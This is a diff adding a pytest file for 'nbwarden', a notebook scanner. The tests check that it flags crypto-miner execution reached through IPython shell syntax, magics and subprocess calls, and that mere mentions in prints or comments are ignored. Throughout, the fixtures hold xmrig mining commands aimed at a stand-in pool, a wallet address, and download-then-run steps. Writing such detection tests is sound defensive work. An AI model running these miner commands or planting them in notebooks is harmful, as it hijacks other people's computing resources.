@@ -1,0 +1,110 @@
+"""IPython syntax is read the way IPython runs it, and only use counts as evidence."""
+import pytest
+
+MINER = "./xmrig -o stratum+tcp://pool.example.net:3333 -u w -p x"
+
+
+def rules(engine, code, **kw):
+    return {f.rule_id for f in engine.check_cell(code, **kw).findings}
+
+
+@pytest.mark.parametrize("code", [
+    f"!{MINER}",
+    f"out = !{MINER}",
+    f"%%bash\n{MINER}\n",
+    f"%%sh\ncd /tmp\n{MINER}\n",
+    f"%%script bash\n{MINER}\n",
+    f"%%capture\n!{MINER}\n",
+    f"import os\nos.system('{MINER}')",
+    f"import subprocess\nsubprocess.run('{MINER}', shell=True)",
+    f"import subprocess as sp\nsp.Popen({MINER.split()!r})",
+    f"get_ipython().system('{MINER}')",
+    f"get_ipython().run_cell_magic('bash', '', '{MINER}\\n')",
+    f"for i in range(3):\n    !{MINER}\n",
+    f"%%writefile run.sh\n{MINER}\n",
+    f"!bash -c '{MINER}'",
+    f"!sudo nohup {MINER} &",
+    f"%sx {MINER}",
+])
+def test_every_way_to_reach_a_shell(engine, code):
+    assert "NBW202" in rules(engine, code), code
+
+
+@pytest.mark.parametrize("code", [
+    f"print('{MINER}')",
+    f"# !{MINER}\nx = 1",
+    f'"""Never run: {MINER}"""\nx = 1',
+    f"def f():\n    '''{MINER}'''\n    return 1",
+    f"import logging\nlogging.info('{MINER}')",
+    f"print(f'do not run {{MINER}} here: {MINER}')",
+])
+def test_a_word_in_a_print_or_comment_is_not_use(engine, code):
+    assert rules(engine, code) == set(), code
+
+
+def test_pip_installs_become_package_facts(engine):
+    from nbwarden.engine.extract import Collector
+    from nbwarden.engine.model import Unit
+    col = Collector()
+    col.run(Unit("%pip install -q Pyngrok==7.0 'insightface>=0.7'\n!python -m pip install onnxruntime-gpu"))
+    pkgs = {f.value for f in col.facts if f.kind == "package"}
+    assert {"pyngrok", "insightface", "onnxruntime-gpu"} <= pkgs
+
+
+def test_import_aliases_resolve_in_calls(engine):
+    from nbwarden.engine.extract import Collector
+    from nbwarden.engine.model import Unit
+    col = Collector()
+    col.run(Unit("from pyngrok import ngrok as n\nimport insightface.app as ia\nn.connect(7860)\nia.FaceAnalysis(name='x')"))
+    calls = {f.value for f in col.facts if f.kind == "call"}
+    assert {"pyngrok.ngrok.connect", "insightface.app.FaceAnalysis"} <= calls
+    kw = {f.value for f in col.facts if f.kind == "kwarg"}
+    assert "FaceAnalysis:name=x" in kw
+
+
+def test_shell_variables_are_expanded(engine):
+    code = "%%bash\nPOOL=stratum+tcp://pool.example.net:3333\nW=48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD\n./worker -o $POOL -u ${W} --donate-level 1\n"
+    assert {"NBW201", "NBW203"} <= rules(engine, code)
+
+
+def test_broken_python_falls_back_to_text(engine):
+    code = "x = (\n!" + MINER + "\nstill broken ((("
+    r = engine.check_cell(code)
+    assert r.error is None
+
+
+def test_evidence_points_at_the_line(engine):
+    r = engine.check_cell(f"x = 1\ny = 2\n!{MINER}\n", cell=4)
+    ev = [e for f in r.findings for e in f.evidence]
+    assert ev and all(e.cell == 4 and e.line == 3 for e in ev)
+    assert MINER in ev[0].snippet
+
+
+def test_context_download_then_run(engine):
+    ctx = engine.new_context()
+    url = "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"
+    assert engine.check_cell(f"release = '{url}'", ctx).findings == [], "naming a URL is not running anything"
+    r = engine.check_cell("!wget -q $release", ctx)
+    cells = {e.cell for f in r.findings for e in f.evidence}
+    assert "NBW202" in {f.rule_id for f in r.findings}
+    assert cells == {0, 1}, "the finding cites the URL in cell 0 and the download in cell 1"
+    again = engine.check_cell("x = 1", ctx)
+    assert again.findings == [], "findings made only of earlier cells are not repeated"
+
+
+def test_context_carries_shell_state(engine):
+    ctx = engine.new_context()
+    assert engine.check_cell("!wget https://example.org/dl/tool -O tool && chmod +x tool", ctx).findings == []
+    r = engine.check_cell("!./tool bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", ctx)
+    assert "NBW207" in {f.rule_id for f in r.findings}
+
+
+def test_content_hash_is_stable_when_other_cells_move(engine):
+    a = engine.scan_units(_units(["x = 1", f"!{MINER}"]), "a")
+    b = engine.scan_units(_units(["import numpy", "y = 2", "z = 3", f"!{MINER}"]), "b")
+    assert {f.content_hash for f in a.findings} == {f.content_hash for f in b.findings}
+
+
+def _units(cells):
+    from nbwarden.engine.model import Unit
+    return [Unit(c, cell=i) for i, c in enumerate(cells)]
